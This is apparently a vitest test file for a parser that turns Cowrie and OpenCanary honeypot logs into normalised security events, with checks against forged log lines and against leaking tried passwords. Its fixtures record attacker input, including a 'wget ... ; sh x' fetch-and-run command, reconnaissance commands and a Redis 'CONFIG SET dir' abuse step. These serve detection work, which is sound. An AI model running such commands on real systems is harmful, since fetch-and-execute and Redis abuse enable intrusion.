// What do visitors of Cowrie and OpenCanary do? JSON and text of the shapes that Cowrie 2 and 3 and OpenCanary 0.9 write.
import { describe, expect, test } from 'vitest'
import { parseOne, read } from '../read.ts'

const cowrie = (eventid: string, more: object = {}): string =>
  JSON.stringify({
    eventid,
    src_ip: '203.0.113.7',
    session: 'c1f3a9d20b11',
    protocol: 'ssh',
    sensor: 'umpan-1',
    timestamp: '2024-11-27T01:16:03.123456Z',
    ...more,
  })

describe('Cowrie, JSON', () => {
  test('a failed log-in', () => {
    expect(
      read(cowrie('cowrie.login.failed', { username: 'root', password: 'rahasia', message: 'login attempt' })),
    ).toEqual({
      dataset: 'cowrie',
      timestamp: '2024-11-27T01:16:03.123Z',
      event_category: 'authentication',
      event_action: 'honeypot_login',
      event_outcome: 'failure',
      event_code: 'cowrie.login.failed',
      event_severity: 50,
      host_name: 'umpan-1',
      user_name: 'root',
      source_ip: '203.0.113.7',
      network_protocol: 'ssh',
      observer_vendor: 'Cowrie',
      observer_product: 'Cowrie',
      fields: { 'cowrie.session': 'c1f3a9d20b11' },
    })
  })

  test.each<[string, object, Record<string, unknown>]>([
    [
      'cowrie.session.connect',
      { src_port: 51234, dst_ip: '192.0.2.1', dst_port: 2222 },
      { event_category: 'intrusion_detection', event_severity: 25, source_port: 51234, destination_port: 2222 },
    ],
    ['cowrie.login.success', { username: 'siti' }, { event_outcome: 'success', event_severity: 80, user_name: 'siti' }],
    [
      'cowrie.command.input',
      { input: 'wget http://203.0.113.9/x; sh x' },
      {
        event_category: 'intrusion_detection',
        event_action: 'honeypot_command',
        event_severity: 80,
        process_command_line: 'wget http://203.0.113.9/x; sh x',
      },
    ],
    [
      'cowrie.session.file_download',
      { url: 'http://a.example/x.sh', shasum: 'ab'.repeat(32), outfile: 'var/lib/x' },
      { event_action: 'honeypot_download', url_domain: 'a.example', file_hash: 'ab'.repeat(32) },
    ],
    [
      'cowrie.client.kex',
      { hassh: '92674389fa1e47a27ddd8d9b63ecd42b' },
      {
        event_action: 'honeypot_kex',
        fields: expect.objectContaining({ 'cowrie.hassh': '92674389fa1e47a27ddd8d9b63ecd42b' }),
      },
    ],
    ['cowrie.session.connect', { src_ip: '2001:db8::7' }, { source_ip: '2001:db8::7' }],
  ])('%s %j', (id, more, expected) => {
    expect(read(cowrie(id, more))).toMatchObject({ dataset: 'cowrie', ...expected })
  })

  test('a tried password is in no field: it may be a citizen’s own', () => {
    const event = read(cowrie('cowrie.login.failed', { username: 'siti', password: 'rahasia', message: 'x rahasia' }))
    expect(JSON.stringify(event)).not.toContain('rahasia')
  })
})

const line = (system: string, message: string): string => `2024-11-27T01:16:03.123456Z [${system}] ${message}`
const ssh = 'HoneyPotSSHTransport,12,203.0.113.7'

describe('Cowrie, text', () => {
  test.each<[string, string, Record<string, unknown>]>([
    [
      ssh,
      "login attempt [b'root'/b'123456'] failed",
      { event_category: 'authentication', event_outcome: 'failure', user_name: 'root', network_protocol: 'ssh' },
    ],
    [ssh, 'login attempt [siti/p/w] succeeded', { event_outcome: 'success', user_name: 'siti' }],
    [ssh, 'public key login attempt for [siti] failed', { event_action: 'honeypot_login', user_name: 'siti' }],
    [
      "SSHChannel session (0) on SSHService b'ssh-connection' on HoneyPotSSHTransport,12,203.0.113.7",
      'CMD: uname -a; id',
      { event_action: 'honeypot_command', process_command_line: 'uname -a; id' },
    ],
    [
      'CowrieTelnetTransport,3,203.0.113.7',
      'Command not found: enable',
      { event_action: 'honeypot_command', network_protocol: 'telnet', process_command_line: 'enable' },
    ],
    [ssh, "Remote SSH version: b'SSH-2.0-Go'", { event_action: 'honeypot_version' }],
    [ssh, 'Connection lost after 5 seconds', { event_action: 'honeypot_disconnect' }],
    [
      ssh,
      `Downloaded URL (b'http://a.example/x') with SHA-256 ${'ab'.repeat(32)} to var/lib/x`,
      { event_action: 'honeypot_download', url_original: 'http://a.example/x', file_hash: 'ab'.repeat(32) },
    ],
    [
      ssh,
      'direct-tcp connection request to 192.0.2.25:25 from 127.0.0.1:4',
      { destination_ip: '192.0.2.25', destination_port: 25 },
    ],
    [
      'cowrie.ssh.factory.CowrieSSHFactory',
      'New connection: 203.0.113.7:51234 (192.0.2.1:2222) [session: c1f3a9d20b11]',
      { event_action: 'honeypot_connect', source_port: 51234, destination_ip: '192.0.2.1', destination_port: 2222 },
    ],
    ['HoneyPotSSHTransport,12,2001:db8::7', 'Connection lost after 5 seconds', { source_ip: '2001:db8::7' }],
  ])('[%s] %s', (system, message, expected) => {
    expect(read(line(system, message))).toMatchObject({
      dataset: 'cowrie',
      timestamp: '2024-11-27T01:16:03.123Z',
      source_ip: '203.0.113.7',
      ...expected,
    })
    expect(read(line(system, message), 'cowrie').dataset).toBe('cowrie')
  })

  test('what a visitor types cannot forge another line', () => {
    const forged = "login attempt [b'a'/b'x] succeeded'] failed"
    expect(read(line(ssh, forged))).toMatchObject({
      event_outcome: 'failure',
      user_name: 'a',
      source_ip: '203.0.113.7',
    })
    expect(read(line(ssh, 'CMD: login attempt [root/x] succeeded'))).toMatchObject({ event_action: 'honeypot_command' })
  })

  test('what the honeypot says of itself, lines of others, cut in the middle', () => {
    expect(read(line('cowrie.python.logfile', 'Cowrie Version 3.1.4'))).toMatchObject({
      dataset: 'cowrie',
      event_category: 'host',
    })
    expect(read(line('HTTPChannel,1,203.0.113.7', 'x')).dataset).not.toBe('cowrie')
    expect(read('2024-11-27T01:16:03.123456Z [HoneyPotSSHTransport,12,203').dataset).not.toBe('cowrie')
    expect(read(line(ssh, 'login attempt [ro'))).toMatchObject({ event_action: 'honeypot_contact' })
  })
})

const canary = (logtype: number, logdata: object = {}, more: object = {}): string =>
  JSON.stringify({
    dst_host: '192.0.2.1',
    dst_port: 22,
    local_time: '2024-11-27 01:16:03.123456',
    local_time_adjusted: '2024-11-27 08:16:03.123456',
    utc_time: '2024-11-27 01:16:03.123456',
    logdata,
    logtype,
    node_id: 'opencanary-1',
    src_host: '203.0.113.7',
    src_port: 51234,
    ...more,
  })

describe('OpenCanary', () => {
  test('a log-in', () => {
    expect(read(canary(4002, { USERNAME: 'root', PASSWORD: 'rahasia', REMOTEVERSION: 'SSH-2.0-Go' }))).toEqual({
      dataset: 'opencanary',
      timestamp: '2024-11-27T01:16:03.123Z',
      event_category: 'authentication',
      event_action: 'honeypot_login',
      event_outcome: 'failure',
      event_code: '4002',
      event_severity: 50,
      host_name: 'opencanary-1',
      user_name: 'root',
      source_ip: '203.0.113.7',
      source_port: 51234,
      destination_ip: '192.0.2.1',
      destination_port: 22,
      network_protocol: 'ssh',
      observer_vendor: 'Thinkst',
      observer_product: 'OpenCanary',
      fields: {
        'opencanary.node': 'opencanary-1',
        'opencanary.logtype': '4002',
        'opencanary.kind': 'ssh_login',
        'opencanary.logdata.REMOTEVERSION': 'SSH-2.0-Go',
      },
    })
  })

  test.each<[number, object, Record<string, unknown>]>([
    [
      3000,
      { PATH: '/wp-login.php', HOSTNAME: 'a.example', USERAGENT: 'curl/8', SKIN: 'nasLogin' },
      {
        event_category: 'intrusion_detection',
        event_action: 'honeypot_http_get',
        http_method: 'GET',
        url_path: '/wp-login.php',
        user_agent_original: 'curl/8',
      },
    ],
    [
      3001,
      { USERNAME: 'admin', PASSWORD: 'x', PATH: '/index.html' },
      { event_action: 'honeypot_login', http_method: 'POST' },
    ],
    [4000, { SESSION: '3' }, { event_action: 'honeypot_ssh_connect', event_severity: 25 }],
    [5000, { USER: 'siti', FILENAME: 'dpt.xlsx', SHARENAME: 'data' }, { file_name: 'dpt.xlsx', user_name: 'siti' }],
    [5001, { PROTO: 'TCP', LEN: '40' }, { event_action: 'honeypot_port_scan_syn', event_severity: 50 }],
    [
      17_001,
      { CMD: 'CONFIG', ARGS: 'SET dir /' },
      { network_protocol: 'redis', event_action: 'honeypot_redis_command' },
    ],
    [99_000, {}, { event_category: 'intrusion_detection', event_action: 'honeypot_contact' }],
    [1001, { msg: { logdata: 'x' } }, { event_category: 'host', event_action: 'opencanary_message' }],
  ])('%i %j', (type, data, expected) => {
    expect(read(canary(type, data))).toMatchObject({ dataset: 'opencanary', ...expected })
  })

  test('a tried password is in no field', () => {
    for (const data of [{ PASSWORD: 'rahasia' }, { 'VNC Password': 'rahasia' }, { Password: 'rahasia' }]) {
      expect(JSON.stringify(read(canary(12_001, data)))).not.toContain('rahasia')
    }
  })

  test('values of the wrong kind, IPv6, ports in text', () => {
    expect(
      read(canary(5001, {}, { src_host: '2001:db8::7', src_port: '4711', dst_port: '-1', logdata: 'x' })),
    ).toMatchObject({
      source_ip: '2001:db8::7',
      source_port: 4711,
    })
    expect(parseOne('{"logtype":"4002","node_id":"x"}', 'opencanary').outcome.kind).toBe('dlq')
  })
})
